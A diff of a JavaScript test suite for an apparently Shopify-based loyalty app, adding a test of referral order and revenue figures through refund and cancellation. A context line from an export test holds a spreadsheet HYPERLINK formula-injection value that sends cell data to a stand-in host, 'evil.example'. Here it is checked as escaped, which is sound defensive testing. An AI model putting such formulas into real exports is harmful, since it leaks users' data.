@@ -629,3 +629,37 @@ describe('the exports’ points and tiers (CONTRACT §19)', () => {
     expect(line).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",'@SUM(A1),`);
   });
 });
+
+describe('referred customers (points_setting.pointsOnReferral)', () => {
+  it('the figures count each period’s first orders that came through a member’s link, with their revenue net of refunds', async () => {
+    const [setting] = (await api.get('/schema/points_setting/record')).body.data;
+    expect((await api.patch(`/schema/points_setting/record/${setting.id}`, { status: 'live', pointsOnReferral: 30 })).status).toBe(200);
+    const referrer = await created('/schema/account_user/record', { externalId: 'gid://shopify/Customer/7358001' });
+    // The earning worker reads the rates again once what it read is 2 s old (LIVE_FRESH_MS): the orders above may have just read them.
+    await new Promise((r) => setTimeout(r, 2100));
+    const before = await figures();
+    const order = {
+      customer: { id: 7358002, created_at: new Date().toISOString() },
+      lines: ONE_LINE,
+      total: '42.00',
+      attributes: { _loyalty_ref: referrer.referralCode },
+    };
+    await deliver('orders/paid', orderPayload(9801, order));
+    await worked('order:9801');
+    // A first order without the link counts for nothing here.
+    await deliver('orders/paid', orderPayload(9802, { customer: { id: 7358003, created_at: new Date().toISOString() }, lines: ONE_LINE }));
+    await worked('order:9802');
+    let f = await figures();
+    expect(Number(f.get('current|referred_orders'))).toBe(Number(before.get('current|referred_orders')) + 1);
+    expect(f.get('current|referred_revenue')).toBe((Number(before.get('current|referred_revenue')) + 42).toFixed(2));
+    expect(f.get('previous|referred_orders')).toBe('0');
+    await deliver('refunds/create', refundPayload(98011, 9801, [{ position: 1, quantity: 1, subtotal: '10.00' }]));
+    await worked('refund:98011');
+    f = await figures();
+    expect(f.get('current|referred_revenue')).toBe((Number(before.get('current|referred_revenue')) + 32).toFixed(2));
+    await deliver('orders/cancelled', { ...orderPayload(9801, order), cancelled_at: new Date().toISOString() });
+    await worked('cancel:9801');
+    f = await figures();
+    expect(f.get('current|referred_orders')).toBe(before.get('current|referred_orders'));
+  });
+});
